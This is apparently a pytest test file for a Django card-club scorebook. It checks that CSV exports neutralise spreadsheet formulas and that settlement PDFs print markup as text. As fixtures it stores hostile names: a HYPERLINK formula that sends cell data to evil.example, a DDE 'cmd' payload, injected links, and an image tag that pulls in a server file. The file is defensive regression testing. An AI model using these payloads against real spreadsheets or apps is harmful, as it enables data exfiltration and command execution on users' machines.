"""Names are text in every export: the CSVs neutralise a cell a spreadsheet would read as a
formula, and the PDFs print markup as the characters it is made of.

The settlement PDF read names as reportlab markup: ``Nino <b`` made it answer 500, an
``<a href=...>`` became a link in the official sheet, an ``<img src=...>`` in the club's
name embedded a file of the server's disk. The settlement CSV wrote a player named
``=HYPERLINK(...)`` as is: a formula in the treasurer's spreadsheet.
"""

from __future__ import annotations

import base64
import csv
import datetime
import io
import re
import shutil
import tempfile
import zlib
from pathlib import Path

import pytest
from django.test import Client
from PIL import Image

from scorebook.clubs.models import Club, Player
from scorebook.matches import services as matches
from scorebook.matches.models import Night, Table
from scorebook.standings import refresh
from scorebook.standings import services as standings
from scorebook.standings.leagues import services as leagues
from scorebook.standings.models import LeagueEntry, Season
from tests.api.common import SIDES, SMALL, api

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = {
    "N": FORMULA + " <b",  # a formula, and markup left open
    "E": '+1+1 <a href="http://evil.example/">link</a>',
    "S": "-2+3+cmd|' /C calc'!A0",
    "W": "@SUM(1+1)",
}
#: A spreadsheet reads a cell starting with one of these as a formula.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
AMOUNT = re.compile(r"-?\d+(\.\d+)?( \w+)?")


@pytest.fixture
def hostile(people, club, request):
    # A short path: the club's name holds it and is at most 120 characters (PostgreSQL
    # refuses a longer one; pytest's tmp_path alone can be longer than that).
    folder = Path(tempfile.mkdtemp(prefix="sb"))
    request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
    picture = folder / "s.png"
    Image.new("RGB", (8, 8), "red").save(picture)
    director = people.director
    night = matches.night_open(
        club_id=club.pk, date=datetime.date(2026, 11, 20), venue="Bar", user=director
    )
    table = matches.table_create(night=night, number=1, name="Tavolo", user=director)
    n, e, s, w = people.seated
    match = matches.match_create(
        night=night,
        game="tressette4",
        rules={"profile": "classic_21"},
        seats={"N": n.pk, "E": e.pk, "S": s.pk, "W": w.pk},
        table=table,
        user=director,
        stake_amount="0.50",
        stake_currency="EUR",
    )
    for number, data in enumerate([SIDES, SMALL, SIDES, SIDES], start=1):
        matches.deal_create(match=match, data=data, expected_number=number, user=director)
    season = standings.season_create(
        club_id=club.pk,
        name="2026-27",
        starts_on=datetime.date(2026, 9, 1),
        ends_on=None,
        user=director,
    )
    league = leagues.league_create(club=club, name="Coppa", user=director, game="tressette4")
    one = leagues.entry_add(league=league, name="A", player_ids=[n.pk, s.pk], user=director)
    two = leagues.entry_add(league=league, name="B", player_ids=[e.pk, w.pk], user=director)
    leagues.league_start(league=league, user=director)
    refresh.rebuild(club_id=club.pk)
    matches.night_close(night=night, user=director)
    # The names, written as they may have been stored (older rows, other paths): the
    # exports must hold whatever a name holds.
    for seat, player in zip("NESW", people.seated, strict=True):
        Player.objects.filter(pk=player.pk).update(name=NAMES[seat])
    Club.objects.filter(pk=club.pk).update(
        name=f'<img src="{picture}" width="200" height="200"/>=Club <a href="http://evil.example/">x</a>',
        public=True,
    )
    Table.objects.filter(pk=table.pk).update(name="\t=1+1 <b>Tavolo</b>")
    Night.objects.filter(pk=night.pk).update(venue='<a href="http://evil.example/">Bar</a>')
    Season.objects.filter(pk=season.pk).update(name="\r=2026")
    LeagueEntry.objects.filter(pk=one.pk).update(name="=A <i")
    LeagueEntry.objects.filter(pk=two.pk).update(name="@B")
    return {"night": night.pk, "league": league.pk, "season": season.pk, "club": club.pk}


def csv_urls(h, slug: str) -> list[str]:
    league, season, club = h["league"], h["season"], h["club"]
    return [
        f"/api/v1/nights/{h['night']}/settlement/csv",
        f"/n/{h['night']}/settlement.csv",
        f"/api/v1/leagues/{league}/standings/csv",
        f"/c/{slug}/leagues/{league}/csv",
        f"/api/v1/public/clubs/{slug}/leagues/{league}/standings/csv",
        f"/api/v1/leaderboard?season={season}&format=csv",
        f"/api/v1/ratings?club={club}&game=tressette4&format=csv",
        f"/api/v1/rating-history?club={club}&game=tressette4&format=csv",
        f"/api/v1/public/clubs/{slug}/seasons?format=csv",
        f"/api/v1/public/clubs/{slug}/leaderboard?season={season}&format=csv",
        f"/api/v1/public/clubs/{slug}/ratings?game=tressette4&format=csv",
    ]


def _client(people) -> Client:
    client = Client()
    client.force_login(people.director)
    return client


def test_every_csv_neutralises_formulas(people, club, hostile):
    client, token = _client(people), api(people, "director")
    seen: set[str] = set()
    for url in csv_urls(hostile, club.slug):
        answer = (client if not url.startswith("/api/") else token).get(url)
        assert answer.status_code == 200, (url, answer.content[:200])
        assert "csv" in answer["Content-Type"], url
        cells = [c for row in csv.reader(io.StringIO(answer.content.decode())) for c in row]
        dangerous = [c for c in cells if c.startswith(DANGEROUS) and not AMOUNT.fullmatch(c)]
        assert not dangerous, (url, dangerous)
        seen |= {c for c in cells if c.startswith("'")}
    # Each hostile name reached some export, whole, behind the apostrophe that makes it text.
    for name in [*NAMES.values(), "=A <i", "@B", "\r=2026"]:
        assert any(name in cell for cell in seen), name


def _pdf_text(pdf: bytes) -> bytes:
    """The PDF with its streams decoded (reportlab's ASCII85, then Flate)."""
    out = [pdf]
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        try:
            out.append(zlib.decompress(base64.a85decode(stream.strip().removesuffix(b"~>"))))
        except (ValueError, zlib.error):
            pass
    return b"\n".join(out)


@pytest.mark.parametrize("where", ["api", "page"])
def test_the_settlement_pdf_prints_markup_as_text(people, club, hostile, where):
    if where == "api":
        url, client = f"/api/v1/nights/{hostile['night']}/settlement/pdf", api(people, "member")
    else:
        url, client = f"/n/{hostile['night']}/settlement.pdf", _client(people)
    answer = client.get(url)
    assert answer.status_code == 200, answer.content[:300]
    assert answer.content.startswith(b"%PDF")
    body = _pdf_text(answer.content)
    assert b"/URI" not in body and b"/Link" not in body  # no link
    assert b"/Subtype /Image" not in body and b"/XObject" not in body  # no file of the disk
    # the text shown: reportlab writes it in pieces, "(<) Tj (img src=...) Tj"
    shown = b"".join(re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", body))
    assert b"HYPERLINK" in shown  # the page's text was read
    for text in (b"<b", b"<a href=", b"<img src="):
        assert text in shown, (text, shown)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nino", "Nino"),
        ("Nino = Salvo", "Nino = Salvo"),
        ("-3", "-3"),
        ("-0.50 EUR", "-0.50 EUR"),
        ("", ""),
        (-3, "-3"),
        (None, ""),
        (0.5, "0.5"),
    ],
)
def test_a_cell(cell, shown):
    from scorebook.ledger.exports import safe_cell

    assert safe_cell(cell) == shown
